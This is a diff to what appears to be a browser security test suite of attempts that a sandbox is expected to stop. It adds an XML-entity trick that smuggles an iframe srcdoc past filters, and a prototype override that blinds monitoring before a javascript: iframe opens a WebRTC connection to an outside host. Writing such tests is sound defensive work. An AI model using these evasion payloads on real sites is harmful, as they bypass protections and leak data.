@@ -205,6 +205,14 @@ export const stopped: Record<string, Attempt> = {
         const xml = new DOMParser().parseFromString('<x/>', 'text/xml');
         body.append(processor.transformToFragment(xml, document));
       },
+      () => {
+        const inside = escaped.replaceAll('&', '&#38;').replaceAll("'", '&#38;#39;');
+        const entity = `<iframe xmlns='http://www.w3.org/1999/xhtml' src&#100;oc='${inside}'/>`;
+        const xml = `<!DOCTYPE x [<!ENTITY a "${entity}">]><x>&a;</x>`;
+        body.append(
+          document.adoptNode(new DOMParser().parseFromString(xml, 'text/xml').documentElement.firstChild!),
+        );
+      },
     ];
     for (const way of ways) {
       try {
@@ -215,6 +223,10 @@ export const stopped: Record<string, Attempt> = {
   },
   'reaches a peer from a script for an address': (body, elsewhere) => {
     const frame = document.createElement('iframe');
+    // Code that runs before may have replaced whatever looks at the sink.
+    const iterate = Array.prototype[Symbol.iterator];
+    Array.prototype[Symbol.iterator] = (() => [''].values()) as typeof iterate;
+    setTimeout(() => (Array.prototype[Symbol.iterator] = iterate), 200);
     frame.src = `javascript:void (async () => {
       const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(elsewhere).host}' }] });
       peer.createDataChannel('x');
